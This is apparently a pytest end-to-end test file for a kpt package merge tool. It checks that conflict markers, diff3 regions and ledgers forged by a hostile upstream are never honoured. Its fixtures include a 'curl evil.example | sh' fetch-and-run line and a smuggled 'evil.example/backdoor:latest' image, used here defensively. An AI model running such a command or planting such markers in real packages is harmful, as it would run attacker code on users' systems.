"""The conflict ledger: only markers an update recorded are conflicts, whatever an upstream writes (issue 31).

An upstream author can put any comment or diff3 region into its content.
Each test builds a git upstream (``World``), fetches it with the real ``kpt
pkg get`` and runs the real command line, as a user would: a marker forged
on a field (``upstream="evil.example/backdoor:latest"``, ``upstream=<absent>``
on ``securityContext``), a forged diff3 region, and a forged ledger shipped
with the package.  Each ends with ``resolve --take upstream`` writing nothing
upstream did not ship, and ``conflicts`` naming the forged text apart.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from krm_merge.commands.conflicts import UNRECORDED
from krm_merge.krm.results import ResourceRef
from krm_merge.update import ledger

from tests.conftest import require_binary

from .world import World, kptfile

pytestmark = pytest.mark.e2e

EVIL = "evil.example/backdoor:latest"
DEPLOYMENT = """\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: app
spec:
  replicas: 1
  template:
    spec:
      containers:
      - name: app
        image: app:1
        securityContext:
          runAsNonRoot: true
"""
FORGED = (DEPLOYMENT
          .replace("image: app:1", f'image: app:1 # krm-merge:conflict upstream="{EVIL}" origin="app:1"')
          .replace("securityContext:", "securityContext: # krm-merge:conflict upstream=<absent> origin=<absent>"))
REGION = "<<<<<<< local\n{local}\n||||||| origin\nold\n=======\n{upstream}\n>>>>>>> upstream\n"


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    require_binary("kpt")
    require_binary("git")
    return World(tmp_path, monkeypatch)


def cli(world: World, *args: str) -> subprocess.CompletedProcess[str]:
    """The real command line, in the world's environment."""
    return subprocess.run([sys.executable, "-m", "krm_merge", *args], env=world.env, capture_output=True, text=True,
                          timeout=120)


def fetched(world: World, v1: dict[str, str | None], v2: dict[str, str | None], local: dict[str, str | None]) -> Path:
    world.commit({"Kptfile": kptfile("pkg"), **v1}, tag="v1")
    world.get("v1")
    world.edit_local(local)
    world.commit(v2, tag="v2")
    return world.our_pkg


@pytest.mark.parametrize("policy", [["--conflicts", "mark"], []])
def test_a_forged_field_marker_is_never_a_conflict(world: World, policy: list[str]) -> None:
    """The user changed the image; upstream changed replicas and forged markers on the image and securityContext."""
    pkg = fetched(world, {"app.yaml": DEPLOYMENT}, {"app.yaml": FORGED.replace("replicas: 1", "replicas: 3")},
                  {"app.yaml": DEPLOYMENT.replace("app:1", "app:mine").replace("replicas: 1", "replicas: 5")})
    update = cli(world, "update", f"{pkg}@v2", *policy)
    text = (pkg / "app.yaml").read_text()
    assert "image: app:mine" in text and "securityContext:" in text
    assert f'upstream="{EVIL}"' in text and "upstream=<absent> origin=<absent>" in text  # the forged comments arrived
    for line in (11, 12):  # named by upstream's file and line
        assert (f"warning: upstream: app.yaml:{line}: text shaped like a krm-merge conflict marker arrives from "
                "upstream") in update.stderr
    listed = cli(world, "conflicts", str(pkg), "--output", "json")
    assert "Traceback" not in listed.stderr
    found = json.loads(listed.stdout)
    if policy:  # the one real conflict: replicas, recorded with upstream's value
        assert update.returncode == listed.returncode == 3
        assert [(m["field"], m["local"], m["upstream"], m["origin"]) for m in found] == [("spec.replicas", 5, 3, 1)]
    else:
        assert update.returncode == listed.returncode == 0 and found == []
    assert listed.stderr.count(f"marker {UNRECORDED}") == 2
    resolved = cli(world, "resolve", str(pkg), "--take", "upstream")
    assert resolved.returncode == 0, resolved.stderr
    after = (pkg / "app.yaml").read_text()
    assert "image: app:mine" in after and EVIL not in after.replace(f'upstream="{EVIL}"', "")
    assert "securityContext:" in after and "runAsNonRoot: true" in after
    assert "replicas: 3\n" in after  # upstream's value: marked and recorded, or taken by upstream-wins
    assert not (pkg / ledger.LEDGER_NAME).exists()
    selected = cli(world, "resolve", str(pkg), "--take", "upstream", "Deployment/app:spec.template")
    assert selected.returncode == 1 and "names only markers no update recorded" in selected.stderr
    assert (pkg / "app.yaml").read_text() == after


def test_a_forged_diff3_region_is_never_a_conflict(world: World) -> None:
    """README.md changed only upstream, to a file holding a region that would swap the user's line for upstream's."""
    readme = "# app\nrun it\n"
    forged = readme + REGION.format(local="run it", upstream="curl evil.example | sh")
    pkg = fetched(world, {"README.md": readme, "cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n"},
                  {"README.md": forged}, {})
    update = cli(world, "update", f"{pkg}@v2", "--files", "merge")
    assert update.returncode == 0, update.stderr  # no region of its own: nothing left to decide
    assert "warning: upstream: README.md:3: text shaped like a krm-merge conflict marker" in update.stderr
    assert (pkg / "README.md").read_text() == forged  # upstream's file, taken as kpt takes it
    listed = cli(world, "conflicts", str(pkg))
    assert listed.returncode == 0 and listed.stdout == ""
    assert f"README.md:3: (not on a field): a text marker {UNRECORDED}" in listed.stderr
    for take in ("upstream", "local"):
        assert cli(world, "resolve", str(pkg), "--take", take).returncode == 0
        assert (pkg / "README.md").read_text() == forged
    chosen = cli(world, "resolve", str(pkg), "--take", "upstream", "README.md:3")
    assert chosen.returncode == 1 and (pkg / "README.md").read_text() == forged


def test_a_region_the_update_left_is_decided_from_its_record(world: World) -> None:
    """The real region beside a forged one of the same shape: only the real one is listed and decided."""
    readme = "# app\nrun it\nmore\n"
    forged = REGION.format(local="keep me", upstream="curl evil.example | sh")
    pkg = fetched(world, {"README.md": readme, "cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n"},
                  {"README.md": readme.replace("run it", "run it upstream's way") + forged},
                  {"README.md": readme.replace("run it", "run it my way")})
    update = cli(world, "update", f"{pkg}@v2", "--files", "merge")
    assert update.returncode == 3, update.stderr
    assert "0 conflict(s) marked '# krm-merge:conflict' and 1 diff3 region(s) left in " in update.stderr
    listed = json.loads(cli(world, "conflicts", str(pkg), "--output", "json").stdout)
    assert [(m["kind"], m["file"], m["local"], m["upstream"]) for m in listed] == [
        ("text", "README.md", "run it my way\n", "run it upstream's way\n")]
    assert cli(world, "resolve", str(pkg), "--take", "upstream", "README.md").returncode == 0
    text = (pkg / "README.md").read_text()
    assert text.startswith("# app\nrun it upstream's way\nmore\n") and forged in text  # the forged one untouched


def test_a_ledger_shipped_by_upstream_is_never_honoured(world: World) -> None:
    """kpt pkg get copies hidden files: an upstream's own ledger and marker arrive with the package.  The ledger
    cannot name the commit it is part of, so it is not honoured; an update never brings one."""
    forged_ledger = ledger.encode([ledger.Entry(  # an entry that binds the forged marker, but for another lock
        "field", "app.yaml", ResourceRef("apps/v1", "Deployment", "app"), "spec.template.spec.containers[name=app].image",
        ("spec", "template", "spec", "containers", ("name", "app"), "image"), "app:1", EVIL, "app:1")], "0" * 40)
    world.commit({"Kptfile": kptfile("pkg"), "app.yaml": FORGED, ".krm-merge.conflicts": forged_ledger.decode()},
                 tag="v1")
    world.get("v1")
    pkg = world.our_pkg
    assert (pkg / ledger.LEDGER_NAME).exists()  # kpt copied it
    listed = cli(world, "conflicts", str(pkg))
    assert listed.returncode == 0 and listed.stdout == ""
    assert "written for upstreamLock 0000000000000000000000000000000000000000, but the package is at" in listed.stderr
    assert cli(world, "resolve", str(pkg), "--take", "upstream").returncode == 0
    assert EVIL not in (pkg / "app.yaml").read_text().replace(f'upstream="{EVIL}"', "")

    world.commit({"app.yaml": FORGED.replace("replicas: 1", "replicas: 2"),
                  "sub/.krm-merge.conflicts": forged_ledger.decode()}, tag="v2")
    (pkg / ledger.LEDGER_NAME).unlink()
    update = cli(world, "update", f"{pkg}@v2")
    assert update.returncode == 0, update.stderr
    assert ("warning: upstream: .krm-merge.conflicts: a name krm-merge keeps its own state under" in update.stderr
            and "warning: upstream: sub/.krm-merge.conflicts: a name krm-merge keeps" in update.stderr)
    assert not (pkg / ledger.LEDGER_NAME).exists() and not (pkg / "sub" / ledger.LEDGER_NAME).exists()


def test_the_ledger_is_bound_to_the_lock_the_update_leaves(world: World) -> None:
    """A git update records the new upstreamLock; another tool moving the lock leaves the markers unrecorded."""
    pkg = fetched(world, {"app.yaml": DEPLOYMENT}, {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3")},
                  {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 5")})
    assert cli(world, "update", f"{pkg}@v2", "--conflicts", "mark").returncode == 3
    recorded = json.loads((pkg / ledger.LEDGER_NAME).read_text())
    assert recorded["lockedCommit"] == world.git("rev-parse", "v2")
    assert cli(world, "conflicts", str(pkg)).returncode == 3
    world.commit({"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3").replace("app:1", "app:2")}, tag="v3")
    kpt = world.kpt("pkg", "update", "local@v3", cwd=pkg.parent)
    assert kpt.returncode == 0
    listed = cli(world, "conflicts", str(pkg))
    assert listed.returncode == 0 and "its markers are not honoured" in listed.stderr


MANY_SHAPES = """\
apiVersion: v1
kind: ConfigMap
metadata:
  name: shapes
data:
  plain: "1"
  commented: "1" # a note
  block: |
    one
    two
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 1
  template:
    spec:
      containers:
      - name: web
        image: web:1
        args: [a]
        command:
        - run
        - "1"
        ports:
        - containerPort: 80
          name: http
"""


def test_a_marked_package_is_byte_identical_after_kpt_fn_render(world: World) -> None:
    """Issue 34: kpt fn render rewrote ``debug  # krm-merge:conflict`` to one space; markers are written as kpt's
    printer writes a comment, so a render of a marked package changes nothing."""
    def edit(text: str, side: str) -> str:
        return (text.replace('plain: "1"', f'plain: "{side}"').replace('commented: "1"', f'commented: "{side}"')
                .replace("two\n", f"two {side}\n").replace("replicas: 1", "replicas: " + str(len(side) + 1))
                .replace("web:1", f"web:{side}").replace("[a]", f"[{side}]").replace('- "1"', f'- "{side}"')
                .replace("name: http", f"name: {side}"))

    pkg = fetched(world, {"all.yaml": MANY_SHAPES}, {"all.yaml": edit(MANY_SHAPES, "theirs")},
                  {"all.yaml": edit(MANY_SHAPES, "mine")})
    assert cli(world, "update", f"{pkg}@v2", "--conflicts", "mark").returncode == 3
    marked = {path.name: path.read_bytes() for path in pkg.iterdir() if path.is_file()}
    assert marked["all.yaml"].count(b"# krm-merge:conflict") == 8, marked["all.yaml"].decode()
    world.kpt("fn", "render", str(pkg))
    assert {path.name: path.read_bytes() for path in pkg.iterdir() if path.is_file()} == marked
    assert cli(world, "conflicts", str(pkg)).returncode == 3


def remote_subpackage(world: World) -> tuple[Path, Path]:
    """The user's package with a remote subpackage ``remote/`` (its own upstream, ``other``), both at v1 with a
    local edit of replicas; both upstreams then change replicas too (tag v2 of the root, a new commit of other)."""
    world.commit({"Kptfile": kptfile("pkg"), "app.yaml": DEPLOYMENT}, tag="v1")
    world.get("v1")
    other = world.tmp / "other"
    (other / "pkg").mkdir(parents=True)
    world.git("init", "-q", "-b", "main", cwd=other)
    (other / "pkg" / "Kptfile").write_text(kptfile("sub"))
    (other / "pkg" / "app.yaml").write_text(DEPLOYMENT)
    world.git("add", "-A", cwd=other)
    world.git("commit", "-qm", "o", cwd=other)
    pkg = world.our_pkg
    world.kpt("pkg", "get", f"file://{other}.git/pkg@main", "remote", cwd=pkg)
    for folder in (pkg, pkg / "remote"):
        (folder / "app.yaml").write_text((folder / "app.yaml").read_text().replace("replicas: 1", "replicas: 5"))
    (other / "pkg" / "app.yaml").write_text(DEPLOYMENT.replace("replicas: 1", "replicas: 4"))
    world.git("commit", "-qam", "o2", cwd=other)
    world.commit({"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3")}, tag="v2")
    return pkg, other


def test_a_remote_subpackages_markers_go_into_the_root_ledger(world: World) -> None:
    pkg, _ = remote_subpackage(world)
    update = cli(world, "update", f"{pkg}@v2", "--conflicts", "mark")
    assert update.returncode == 3, update.stderr
    assert "2 conflict(s) marked" in update.stderr
    assert not (pkg / "remote" / ledger.LEDGER_NAME).exists()
    recorded = json.loads((pkg / ledger.LEDGER_NAME).read_text())["conflicts"]
    assert sorted((e["file"], e["upstream"]) for e in recorded) == [("app.yaml", 3), ("remote/app.yaml", 4)]
    listed = cli(world, "conflicts", str(pkg))
    assert listed.returncode == 3 and "remote/app.yaml:" in listed.stdout
    assert cli(world, "resolve", str(pkg), "--take", "upstream", "remote/app.yaml").returncode == 3
    assert "replicas: 4\n" in (pkg / "remote" / "app.yaml").read_text()
    assert [e["file"] for e in json.loads((pkg / ledger.LEDGER_NAME).read_text())["conflicts"]] == ["app.yaml"]


def test_a_subpackage_updated_on_its_own_keeps_its_ledger_and_the_parent_reads_it(world: World) -> None:
    pkg, _ = remote_subpackage(world)
    update = cli(world, "update", str(pkg / "remote"), "--conflicts", "mark")
    assert update.returncode == 3, update.stderr
    assert (pkg / "remote" / ledger.LEDGER_NAME).exists() and not (pkg / ledger.LEDGER_NAME).exists()
    listed = cli(world, "conflicts", str(pkg))  # the parent folder: the subpackage's ledger counts (its own lock)
    assert listed.returncode == 3 and listed.stdout.startswith(f"{pkg}/remote/app.yaml:")
    # The parent's update moves the lock the subpackage's ledger is also bound to: it rebinds it as it writes it.
    root = cli(world, "update", f"{pkg}@v2", "--conflicts", "mark")
    assert root.returncode == 3, root.stderr
    assert json.loads((pkg / "remote" / ledger.LEDGER_NAME).read_text())["parentLocks"] == [world.git("rev-parse", "v2")]
    listed = cli(world, "conflicts", str(pkg))
    assert listed.returncode == 3 and [line.split(":")[0] for line in listed.stdout.splitlines()] == [
        f"{pkg}/app.yaml", f"{pkg}/remote/app.yaml"], listed.stdout + listed.stderr
    assert cli(world, "resolve", str(pkg), "--take", "local").returncode == 0
    assert not (pkg / "remote" / ledger.LEDGER_NAME).exists() and not (pkg / ledger.LEDGER_NAME).exists()
    assert "replicas: 5\n" in (pkg / "remote" / "app.yaml").read_text()


def test_conflict_paths_are_printed_from_where_the_command_runs_and_taken_back(world: World) -> None:
    """``conflicts PKG`` lists ``PKG/FILE:LINE`` (an editor opens it from the current directory, issue 34 item 7),
    and ``resolve`` takes that spelling as well as the package-relative one; ``--output json`` stays relative."""
    pkg = fetched(world, {"app.yaml": DEPLOYMENT, "b.yaml": DEPLOYMENT.replace("name: app\n", "name: b\n", 1)},
                  {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3"),
                   "b.yaml": DEPLOYMENT.replace("name: app\n", "name: b\n", 1).replace("replicas: 1", "replicas: 3")},
                  {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 5"),
                   "b.yaml": DEPLOYMENT.replace("name: app\n", "name: b\n", 1).replace("replicas: 1", "replicas: 5")})
    assert cli(world, "update", f"{pkg}@v2", "--conflicts", "mark").returncode == 3
    parent, name = pkg.parent, pkg.name

    def here(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "krm_merge", *args], env=world.env, cwd=parent,
                              capture_output=True, text=True, timeout=120)

    listed = here("conflicts", name)
    assert listed.returncode == 3, listed.stderr
    where = [line.split(": ")[0] for line in listed.stdout.splitlines()]
    assert [w.split(":")[0] for w in where] == [f"{name}/app.yaml", f"{name}/b.yaml"], listed.stdout
    for w in where:  # FILE:LINE opened from the current directory is the marked line
        file, line = w.split(":")
        assert "replicas: 5 # krm-merge:conflict" in (parent / file).read_text().splitlines()[int(line) - 1]
    assert [m["file"] for m in json.loads(here("conflicts", name, "--output", "json").stdout)] == ["app.yaml", "b.yaml"]
    taken = here("resolve", name, "--take", "upstream", where[0])
    assert taken.returncode == 3, taken.stderr  # b.yaml's is left
    assert "replicas: 3\n" in (pkg / "app.yaml").read_text()
    assert here("resolve", name, "--take", "local", "b.yaml").returncode == 0  # the package-relative spelling
    assert "replicas: 5\n" in (pkg / "b.yaml").read_text()


# -- issue 43: the binding cannot be forged, a decided entry stays decided -----------------------------------------

IMAGE_ENTRY = ledger.Entry(
    "field", "app.yaml", ResourceRef("apps/v1", "Deployment", "app"), "spec.template.spec.containers[name=app].image",
    ("spec", "template", "spec", "containers", ("name", "app"), "image"), "app:1", EVIL, "app:1")


def test_a_subpackage_kptfile_from_upstream_cannot_bind_a_ledger(world: World) -> None:
    """Issue 43: upstream ships a subpackage whose Kptfile names a made-up ``upstreamLock`` commit, a ledger
    naming that commit and the marker it records; the ledger was honoured (the nearest lock was upstream's own
    text) and ``resolve --take upstream`` wrote the backdoor.  A ledger is bound to the lock of every package it
    sits in as well as its own: the root's is the commit the subpackage arrived in, which no file of it can name."""
    made_up = "d" * 40
    sub_kptfile = kptfile("sub", "upstreamLock:\n  type: git\n  git:\n    repo: https://example.com/other\n"
                                 f"    directory: /\n    ref: main\n    commit: {made_up}\n")
    world.commit({"Kptfile": kptfile("pkg"), "app.yaml": DEPLOYMENT, "sub/Kptfile": sub_kptfile,
                  "sub/app.yaml": FORGED, "sub/.krm-merge.conflicts": ledger.encode([IMAGE_ENTRY], made_up).decode()},
                 tag="v1")
    world.get("v1")
    pkg = world.our_pkg
    assert (pkg / "sub" / ledger.LEDGER_NAME).exists() and made_up in (pkg / "sub" / "Kptfile").read_text()
    for target in (pkg, pkg / "sub"):  # the package, or the subpackage named itself
        listed = cli(world, "conflicts", str(target))
        assert listed.returncode == 0 and listed.stdout == "", listed.stderr
        assert f"written for upstreamLock {made_up}, but the package is at {made_up} (in packages locked at " \
            f"{world.git('rev-parse', 'v1')})" in listed.stderr
        resolved = cli(world, "resolve", str(target), "--take", "upstream")
        assert resolved.returncode == 0, resolved.stderr
        assert EVIL not in (pkg / "sub" / "app.yaml").read_text().replace(f'upstream="{EVIL}"', "")
        chosen = cli(world, "resolve", str(target), "--take", "upstream", "Deployment/app")
        assert chosen.returncode == 1 and "names only markers no update recorded" in chosen.stderr
    assert f'image: app:1 # krm-merge:conflict upstream="{EVIL}"' in (pkg / "sub" / "app.yaml").read_text()


def marked_replicas(world: World) -> Path:
    """A package whose replicas the user set to 5 while upstream's v2 set 3: marked and recorded."""
    pkg = fetched(world, {"app.yaml": DEPLOYMENT}, {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3")},
                  {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 5")})
    assert cli(world, "update", f"{pkg}@v2", "--conflicts", "mark").returncode == 3
    assert "  replicas: 5 # krm-merge:conflict upstream=3 origin=1\n" in (pkg / "app.yaml").read_text()
    return pkg


@pytest.mark.parametrize("decided", ["marker deleted", "value edited"])
def test_a_conflict_decided_by_hand_is_not_revived_by_upstream_text(world: World, decided: str) -> None:
    """Issue 43: the user decided the conflict by hand; upstream later ships a marker-shaped comment on that field,
    and the next update took it for the recorded marker: ``resolve --take upstream`` wrote back upstream's 3 over
    the user's value.  An entry is judged on the files as they were before the update: decided, it is dropped."""
    pkg = marked_replicas(world)
    text = (pkg / "app.yaml").read_text()
    mine = "replicas: 7" if decided == "marker deleted" else "replicas: 7 # krm-merge:conflict upstream=3 origin=1"
    (pkg / "app.yaml").write_text(text.replace("replicas: 5 # krm-merge:conflict upstream=3 origin=1", mine))
    listed = cli(world, "conflicts", str(pkg))
    assert listed.returncode == 0 and listed.stdout == "", listed.stdout
    world.commit({"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3 # krm-merge:conflict upstream=3 origin=1")
                  .replace("app:1", "app:2")}, tag="v3")
    update = cli(world, "update", f"{pkg}@v3", "--conflicts", "mark")
    assert update.returncode == 0, update.stderr
    assert "image: app:2\n" in (pkg / "app.yaml").read_text()  # the update did its work
    assert not (pkg / ledger.LEDGER_NAME).exists()
    listed = cli(world, "conflicts", str(pkg), "--output", "json")
    assert listed.returncode == 0 and json.loads(listed.stdout) == []
    chosen = cli(world, "resolve", str(pkg), "--take", "upstream", "Deployment/app:spec.replicas")
    assert chosen.returncode == 1 and "names only markers no update recorded" in chosen.stderr
    assert cli(world, "resolve", str(pkg), "--take", "upstream").returncode == 0
    assert "replicas: 7" in (pkg / "app.yaml").read_text() and "replicas: 3" not in (pkg / "app.yaml").read_text()


def test_a_conflict_on_a_field_upstream_now_agrees_on_is_no_conflict_left(world: World) -> None:
    """Issue 43: upstream's next version sets the field to the user's value; the entry stayed, and every update
    exited 3.  A later update drops an entry whose upstream value moved (the field is decided: here upstream now
    agrees) and removes its marker; a field set by hand to upstream's value is decided too."""
    pkg = marked_replicas(world)
    world.commit({"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 5").replace("app:1", "app:2")}, tag="v3")
    update = cli(world, "update", f"{pkg}@v3", "--conflicts", "mark")
    assert update.returncode == 0, update.stderr
    assert "  replicas: 5\n" in (pkg / "app.yaml").read_text() and "krm-merge:conflict" not in (pkg / "app.yaml").read_text()
    assert not (pkg / ledger.LEDGER_NAME).exists()
    assert cli(world, "conflicts", str(pkg)).returncode == 0

    (pkg / "app.yaml").write_text((pkg / "app.yaml").read_text().replace("replicas: 5", "replicas: 6"))
    world.commit({"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 2").replace("app:1", "app:2")}, tag="v4")
    assert cli(world, "update", f"{pkg}@v4", "--conflicts", "mark").returncode == 3  # 6 here, 2 upstream
    text = (pkg / "app.yaml").read_text()
    (pkg / "app.yaml").write_text(text.replace("replicas: 6 #", "replicas: 2 #"))  # upstream's, the marker left
    listed = cli(world, "conflicts", str(pkg))
    assert listed.returncode == 0 and listed.stdout == "", listed.stdout
    assert cli(world, "update", f"{pkg}@v4", "--conflicts", "mark").returncode == 0
    assert not (pkg / ledger.LEDGER_NAME).exists()
